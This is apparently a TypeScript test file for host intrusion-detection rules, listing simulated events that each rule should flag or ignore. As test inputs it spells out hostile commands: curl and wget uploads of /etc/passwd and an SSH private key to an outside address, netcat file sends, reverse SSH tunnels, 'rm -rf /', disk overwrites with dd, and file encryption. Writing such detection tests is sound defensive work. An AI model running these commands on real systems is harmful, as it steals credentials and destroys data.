// SPDX-License-Identifier: Apache-2.0
// Discovery, lateral movement, collection, exfiltration and impact: what shipped rules must find and leave alone.
import type { Cases } from "./cases.ts";
import { act, connect, connectUnix, exec, file, readFile, rename, sendDatagram, sh, writeFile } from "./scenario.ts";

export const OTHERS: Cases = {
  "Service looks around": {
    fires: [
      act({ parents: ["sh", "nginx"], uid: 33 }, exec("/usr/bin/id")),
      act({ parents: ["bash"], uid: 33 }, exec("/usr/bin/whoami")),
    ],
    quiet: [
      act({}, exec("/usr/bin/id")),
      act({ parents: ["sh", "cron"], uid: 33 }, exec("/usr/bin/hostname")),
      act({ parents: ["sh", "nginx"], uid: 33 }, exec("/usr/bin/convert")),
    ],
  },
  "Network scanner started": {
    fires: [
      act({}, exec("/usr/bin/nmap", "-sS 10.0.0.0/24")),
      act({}, exec("/usr/bin/nc.openbsd", "-zv 10.0.0.2 20-80")),
    ],
    quiet: [act({}, exec("/usr/bin/nc", "-z db 5432")), act({}, exec("/usr/bin/ss", "-lt"))],
  },
  "Search for set-user-ID programs": {
    fires: [
      act({}, exec("/usr/bin/find", "/ -perm -4000 -type f")),
      act({}, exec("/usr/bin/find", "/ -perm -u=s")),
      act({}, exec("/usr/sbin/getcap", "-r /")),
    ],
    quiet: [
      act({}, exec("/usr/bin/find", "/srv -perm 0644")),
      act({ parents: ["lynis"] }, exec("/usr/bin/find", "/ -perm -4000")),
    ],
  },
  "Attack helper script started": {
    fires: [act({}, sh("./linpeas.sh -a")), act({ container: true }, exec("/tmp/amicontained"))],
    quiet: [act({}, exec("/usr/bin/less", "linpeas.sh")), act({}, sh("./build.sh"))],
  },
  "Kernel addresses read": {
    fires: [act({ name: "cat" }, readFile("/proc/kallsyms")), act({ name: "cat" }, readFile("/dev/mem"))],
    quiet: [act({ name: "perf" }, readFile("/proc/kallsyms")), act({ name: "cat" }, readFile("/proc/cpuinfo"))],
  },
  "Remote login from a service or container": {
    fires: [
      act({ container: true }, exec("/usr/bin/ssh", "root@10.0.0.2")),
      act({ parents: ["sh", "nginx"], uid: 33 }, exec("/usr/bin/scp", "a b:c")),
    ],
    quiet: [
      act({ uid: 1000 }, exec("/usr/bin/ssh", "10.0.0.2")),
      act({ parents: ["git"], container: true }, exec("/usr/bin/ssh", "git@10.0.0.3")),
    ],
  },
  "Login agent of another user used": {
    fires: [act({ name: "socat" }, connectUnix("/tmp/ssh-AbCd/agent.812"))],
    quiet: [
      act({ name: "ssh", uid: 1000 }, connectUnix("/tmp/ssh-AbCd/agent.812")),
      act({ name: "socat" }, connectUnix("/run/app.sock")),
    ],
  },
  "Password handed to a remote login": {
    fires: [act({}, exec("/usr/bin/sshpass", "-p x ssh 10.0.0.2"))],
    quiet: [
      act({}, exec("/usr/bin/ssh", "10.0.0.2")),
      act({ parents: ["ansible-playboo"] }, exec("/usr/bin/sshpass", "-d 5 ssh x")),
    ],
  },
  "Tunnel through a remote login": {
    fires: [
      act({}, exec("/usr/bin/ssh", "-R 8080:localhost:80 203.0.113.9")),
      act({}, exec("/usr/bin/ssh", "-fND 1080 203.0.113.9")),
      act({}, exec("/usr/bin/chisel", "client 203.0.113.9:80")),
    ],
    quiet: [
      act({}, exec("/usr/bin/ssh", "-p 2222 10.0.0.2 uptime")),
      act({ parents: ["autossh"] }, exec("/usr/bin/ssh", "-R 8080:localhost:80 x")),
    ],
  },
  "Archive made of secrets": {
    fires: [
      act({}, exec("/usr/bin/tar", "czf /tmp/k.tgz /root/.ssh")),
      act({}, exec("/usr/bin/zip", "a.zip /etc/shadow")),
    ],
    quiet: [
      act({}, exec("/usr/bin/tar", "cf - /usr/lib/python3.11")),
      act({ parents: ["backup", "run-parts", "cron"] }, exec("/usr/bin/tar", "czf b.tgz /etc/passwd")),
    ],
  },
  "Database files read by another program": {
    fires: [act({ name: "cp" }, readFile("/var/lib/mysql/shop/users.ibd"))],
    quiet: [
      act({ name: "mysqld" }, readFile("/var/lib/mysql/shop/users.ibd")),
      act({ name: "pg_dump" }, readFile("/var/lib/postgresql/15/main/x")),
      act({ name: "cat" }, readFile("/var/lib/mysql/err.log")),
    ],
  },
  "Screen or clipboard captured": {
    fires: [act({ parents: ["bash"], uid: 1000 }, exec("/usr/bin/xwd", "-root -out a"))],
    quiet: [
      act({ parents: ["vim"], uid: 1000, tty: 1 }, exec("/usr/bin/xclip")),
      act({ parents: ["bash"], uid: 1000 }, exec("/usr/bin/xinput", "list")),
    ],
  },
  "Disk read past the file system": {
    fires: [act({ name: "head" }, readFile("/dev/vda")), act({ name: "debugfs" }, readFile("/dev/nvme0n1p2"))],
    quiet: [
      act({ name: "blkid" }, readFile("/dev/sda1")),
      act({ name: "(udev-worker)" }, readFile("/dev/sda")),
      act({ name: "mkfs.ext4" }, readFile("/dev/sdb1")),
      act({ name: "head" }, readFile("/dev/urandom")),
    ],
  },
  "Secrets sent out": {
    fires: [
      act({}, exec("/usr/bin/curl", "-F file=@/etc/passwd http://203.0.113.9")),
      act({}, exec("/usr/bin/wget", "--post-file=/root/.ssh/id_rsa http://203.0.113.9")),
    ],
    quiet: [
      act({}, exec("/usr/bin/curl", "-F file=@report.pdf http://10.0.0.2")),
      act({}, exec("/usr/bin/curl", "-s http://10.0.0.2")),
      act({}, exec("/usr/bin/scp", "-i /root/.ssh/id_rsa a b:")),
    ],
  },
  "File sent by a network tool": {
    fires: [act({ fds: [file(0, "/srv/data.tgz")] }, exec("/usr/bin/nc", "203.0.113.9 9999"))],
    quiet: [
      act({ fds: [file(0, "/dev/pts/0")] }, exec("/usr/bin/nc", "203.0.113.9 9999")),
      act({ fds: [file(0, "/dev/null")] }, exec("/usr/bin/nc", "-z db 5432")),
    ],
  },
  "Name query of unusual size": {
    fires: [act({ name: "python3" }, sendDatagram("203.0.113.53", 53, 240))],
    quiet: [
      act({ name: "curl" }, sendDatagram("203.0.113.53", 53, 45)),
      act({ name: "named" }, sendDatagram("203.0.113.53", 53, 500)),
      act({ name: "python3" }, sendDatagram("203.0.113.53", 5000, 900)),
    ],
  },
  "Connection to a port of remote control or mining": {
    fires: [act({ name: "python3" }, connect("203.0.113.9", 4444))],
    quiet: [
      act({ name: "python3" }, connect("127.0.0.1", 4444)),
      act({ name: "adb" }, connect("192.168.1.7", 5555)),
      act({ name: "curl" }, connect("203.0.113.9", 443)),
      act({ name: "weechat" }, connect("203.0.113.9", 6697)),
    ],
  },
  "Mining program started": {
    fires: [
      act({}, exec("/opt/a", "-o stratum+tcp://pool.example:3333 -u x")),
      act({}, exec("/tmp/xmrig")),
      act({}, exec("/dev/shm/.c", "-o pool:3333")),
    ],
    quiet: [
      act({}, exec("/usr/bin/curl", "-o pool.html http://10.0.0.2")),
      act({}, exec("/usr/bin/grep", "stratum+ notes")),
    ],
  },
  "Disk overwritten": {
    fires: [act({ name: "dd" }, writeFile("/dev/sda")), act({ name: "wiper" }, writeFile("/dev/nvme0n1"))],
    quiet: [
      act({ name: "mkfs.ext4" }, writeFile("/dev/sdb1")),
      act({ name: "fsck.ext4" }, writeFile("/dev/sda1")),
      act({ name: "dd" }, writeFile("/tmp/disk.img")),
      act({ name: "dd" }, readFile("/dev/sda")),
    ],
  },
  "Files wiped": {
    fires: [act({}, exec("/usr/bin/shred", "-u /srv/a"))],
    quiet: [act({}, exec("/usr/bin/rm", "/srv/a")), act({ parents: ["dpkg"] }, exec("/usr/bin/shred", "-u /tmp/k"))],
  },
  "System directories removed": {
    fires: [
      act({}, exec("/usr/bin/rm", "-rf /")),
      act({}, exec("/usr/bin/rm", "-rf --no-preserve-root /")),
      act({}, exec("/usr/bin/rm", "-r -f /etc")),
      act({}, exec("/usr/bin/rm", "-rf /home/*")),
    ],
    quiet: [
      act({}, exec("/usr/bin/rm", "-rf /tmp/build")),
      act({}, exec("/usr/bin/rm", "-rf /home/alice/x")),
      act({}, exec("/usr/bin/rm", "/etc/a.conf")),
    ],
  },
  "File renamed as encrypted": {
    fires: [act({ name: "x" }, rename("/srv/a.docx", "/srv/a.docx.locked"))],
    quiet: [
      act({ name: "mv" }, rename("/srv/a.tmp", "/srv/a.docx")),
      act({ name: "sops" }, rename("/srv/t", "/srv/s.enc")),
    ],
  },
  "Files encrypted by command": {
    fires: [act({}, exec("/usr/bin/openssl", "enc -aes-256-cbc -in a -out b -k secret"))],
    quiet: [
      act({}, exec("/usr/bin/openssl", "x509 -in cert.pem -noout")),
      act({}, exec("/usr/bin/openssl", "enc -d -aes-256-cbc -in b -k secret")),
      act({ parents: ["pass"] }, exec("/usr/bin/gpg", "-c --batch --passphrase x a")),
    ],
  },
  "Boot files changed": {
    fires: [
      act({ name: "cp" }, writeFile("/boot/vmlinuz-6.1.0")),
      act({ name: "vim" }, writeFile("/boot/grub/grub.cfg")),
    ],
    quiet: [
      act({ name: "grub-mkconfig" }, writeFile("/boot/grub/grub.cfg.new")),
      act({ name: "dpkg", parents: ["apt"] }, writeFile("/boot/vmlinuz.dpkg-new")),
      act({ name: "cat", parents: ["update-grub"] }, writeFile("/boot/grub/grub.cfg")),
      act({ name: "cat" }, readFile("/boot/grub/grub.cfg")),
    ],
  },
};
